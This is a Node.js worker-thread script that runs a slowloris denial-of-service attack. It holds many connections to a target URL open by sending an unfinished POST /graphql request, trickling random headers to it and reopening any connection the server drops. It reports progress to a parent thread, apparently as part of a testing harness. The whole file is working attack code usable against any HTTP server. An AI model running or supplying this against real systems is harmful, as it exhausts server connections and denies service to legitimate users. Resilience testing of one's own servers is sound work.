// A worker thread that keeps `count` connections to `url` open without ever finishing a request's headers
// (slowloris): each sends a request line and then one header line every `trickleMs`, and opens again when the
// server drops it. Reports `{ open, cut }` to its parent every 100 ms; stops when the parent sends 'stop'.
import net from 'node:net';
import { parentPort, workerData } from 'node:worker_threads';

const { url, count, trickleMs } = workerData;
const { hostname, port } = new URL(url);
const sockets = new Set();
let stopped = false;
let cut = 0;

function open() {
  const socket = net.connect(Number(port), hostname, () => socket.write(`POST /graphql HTTP/1.1\r\nHost: ${hostname}\r\n`));
  sockets.add(socket);
  socket.on('error', () => {});
  socket.on('close', () => {
    sockets.delete(socket);
    if (!stopped) {
      cut++;
      setTimeout(open, 10);
    }
  });
}

for (let i = 0; i < count; i++) open();
const trickle = setInterval(() => {
  for (const socket of sockets) socket.write(`X-Slow-${Math.floor(Math.random() * 1e6)}: a\r\n`);
}, trickleMs);
const report = setInterval(() => parentPort.postMessage({ open: sockets.size, cut }), 100);
parentPort.on('message', () => {
  stopped = true;
  clearInterval(trickle);
  clearInterval(report);
  for (const socket of sockets) socket.destroy();
  parentPort.close();
});
